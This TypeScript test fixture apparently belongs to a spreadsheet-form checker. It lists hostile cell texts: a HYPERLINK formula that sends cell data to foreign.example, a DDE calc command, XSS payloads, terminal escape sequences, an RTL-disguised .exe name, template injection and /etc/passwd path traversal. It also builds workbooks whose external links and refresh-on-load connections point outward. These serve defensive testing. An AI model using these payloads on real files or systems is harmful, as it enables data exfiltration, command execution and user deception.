/** Texts that somebody writes into a cell to harm who opens it, and forms and workbooks that hold them everywhere. */
import { columnName, type SheetSnapshot } from '../../src/core/model/sheet-snapshot';
import { buildPackage, MAIN, worksheet, type PackageOptions } from '../hosts/xlsx/build-package';
import { formSheet } from '../rules/form-sheet';

/** By what they try. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'a formula': '=HYPERLINK("http://foreign.example/?"&A1,"点这里")',
  'a command by DDE': "=cmd|'/C calc'!A0",
  'a formula with a sign': '+1+cmd!A0',
  'a formula with minus': '-2+3+cmd!A0',
  'a formula with at': '@SUM(1+1)*cmd!A0',
  'a full-width formula': '＝1+1',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a line end': '\r=1+1',
  'a script': '<script>window.harmed=1</script>',
  'a picture that fails': '<img src=x onerror="window.harmed=1">',
  'a foreign picture': '<img src="http://foreign.example/a.png">',
  'a drawing with a script': '<svg onload="window.harmed=1"></svg>',
  'markup out of an attribute': '" onmouseover="window.harmed=1" x="',
  'a link that runs': '[点这里](javascript:window.harmed=1)',
  'a Markdown picture': '![图](http://foreign.example/a.png)',
  'a Markdown table': 'a | b \n| --- | --- |\n| c | d |',
  'colours for a terminal': '\u001b[31m红\u001b[0m',
  'a terminal title': '\u001b]0;标题\u0007',
  'a C1 control sequence': '\u009b2J',
  'a cursor that goes back': '没有发现问题\r\b\b\b\u001b[1A',
  'writing turned around': 'a\u202excslx.exe',
  'a line of its own': '甲\n    ✓ 没有发现问题',
  'the prototype': '__proto__',
  'the constructor': 'constructor',
  'a method': 'toString',
  'a null byte': '甲\u0000乙',
  'half a character': '甲\ud800乙',
  'a template': '${process.exit()}{{7*7}}',
  'a path': '../../../../etc/passwd',
};

/** A form with the text in every cell that takes text; each row is wrong in a way that quotes it. */
export function hostileForm(text: string, sheet = '自评表'): SheetSnapshot {
  const form = formSheet({
    sheet,
    funds: '100 | 100 | 90 | 10 | 95% | 9.5',
    change: {
      0: '产出指标 | 数量指标 | ☣ | ≥200人 | 150人 | 15 | 15 | ☣',
      1: '产出指标 | 质量指标 | ☣ | ☣ | ☣ | 15 | 16 | ☣',
      4: '效益指标 | 社会效益指标 | ☣ | 提升 | ☣ | 30 | 31 | ☣',
    },
    name: '☣',
    goals: ['☣', '☣'],
    total: '100 | 98',
    grade: '☣',
  });
  return {
    ...form,
    rows: form.rows.map((row) => ({
      ...row,
      cells: row.cells.map((cell) => (cell.value === '☣' ? { ...cell, value: text, text } : cell)),
    })),
  };
}

/** A UTF-16 unit that Excel writes as `_xHHHH_`: control characters but tab and line feed, halves of pairs, non-characters. */
function isStoredByCode(code: number): boolean {
  const isControl = code < 0x20 && code !== 0x09 && code !== 0x0a;
  return isControl || (code >= 0xd800 && code <= 0xdfff) || code >= 0xfffe;
}

/** As Excel stores it: markup escaped, characters that XML cannot hold as `_xHHHH_`. */
function inXml(text: string): string {
  const units = text.replace(/_(?=x[0-9A-Fa-f]{4}_)/g, '_x005F_').split('');
  return units
    .map((sign) => {
      const code = sign.charCodeAt(0);
      return isStoredByCode(code) ? `_x${code.toString(16).toUpperCase().padStart(4, '0')}_` : sign;
    })
    .join('')
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;');
}

/** The sheet's XML with text stored in the cells. */
function sheetXml(sheet: SheetSnapshot, after = ''): string {
  const rows = sheet.rows.map(({ row, cells }) => {
    const number = String(row + 1);
    const items = cells.map(({ column, value }) => {
      const at = `${columnName(column)}${number}`;
      return typeof value === 'number'
        ? `<c r="${at}"><v>${String(value)}</v></c>`
        : `<c r="${at}" t="inlineStr"><is><t xml:space="preserve">${inXml(String(value))}</t></is></c>`;
    });
    return `<row r="${number}">${items.join('')}</row>`;
  });
  const merges = (sheet.merges ?? []).map(({ top, left, bottom, right }) => {
    const range = `${columnName(left)}${String(top + 1)}:${columnName(right)}${String(bottom + 1)}`;
    return `<mergeCell ref="${range}"/>`;
  });
  const merged =
    merges.length > 0 ? `<mergeCells count="${String(merges.length)}">${merges.join('')}</mergeCells>` : '';
  return worksheet(rows.join(''), { after: merged + after });
}

/** Workbook of up to three sheets; their names are those of `buildPackage`. */
export function hostileWorkbook(
  sheets: readonly SheetSnapshot[],
  more: PackageOptions = {},
  after = '',
): Uint8Array {
  return buildPackage({ ...more, sheets: sheets.map((sheet) => sheetXml(sheet, after)) });
}

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** External addresses in every place of a workbook that can hold one: opening it must ask none of them. */
export function workbookWithForeignAddresses(text: string, address: string): Uint8Array {
  const external = (id: string, kind: string, target: string): string =>
    `<Relationship Id="${id}" Type="${OFFICE}/${kind}" Target="${target}" TargetMode="External"/>`;
  return hostileWorkbook(
    [hostileForm(text)],
    {
      parts: {
        'xl/worksheets/_rels/sheet1.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
          `${external('rId1', 'hyperlink', `${address}link`)}${external('rId2', 'image', `${address}background.png`)}` +
          `<Relationship Id="rId3" Type="${OFFICE}/drawing" Target="../drawings/drawing1.xml"/></Relationships>`,
        'xl/drawings/drawing1.xml':
          '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" ' +
          `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${OFFICE}"><xdr:oneCellAnchor>` +
          '<xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>' +
          '<xdr:ext cx="9525" cy="9525"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="1" name="x"/><xdr:cNvPicPr/></xdr:nvPicPr>' +
          '<xdr:blipFill><a:blip r:link="rId1"/></xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>',
        'xl/drawings/_rels/drawing1.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
          `${external('rId1', 'image', `${address}picture.png`)}</Relationships>`,
        'xl/connections.xml':
          `<connections xmlns="${MAIN}"><connection id="1" name="c" type="4" refreshedVersion="6" refreshOnLoad="1">` +
          `<webPr url="${address}query"/></connection></connections>`,
        'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${MAIN}" xmlns:r="${OFFICE}"><externalBook r:id="rId1"/></externalLink>`,
        'xl/externalLinks/_rels/externalLink1.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
          `${external('rId1', 'externalLinkPath', `${address}other.xlsx`)}</Relationships>`,
      },
      workbookAfter: '<externalReferences><externalReference r:id="rId95"/></externalReferences>',
      workbookRelationships: [
        ['rId95', 'externalLink', 'externalLinks/externalLink1.xml'],
        ['rId96', 'connections', 'connections.xml'],
      ],
    },
    '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks><drawing r:id="rId3"/><picture r:id="rId2"/>',
  );
}
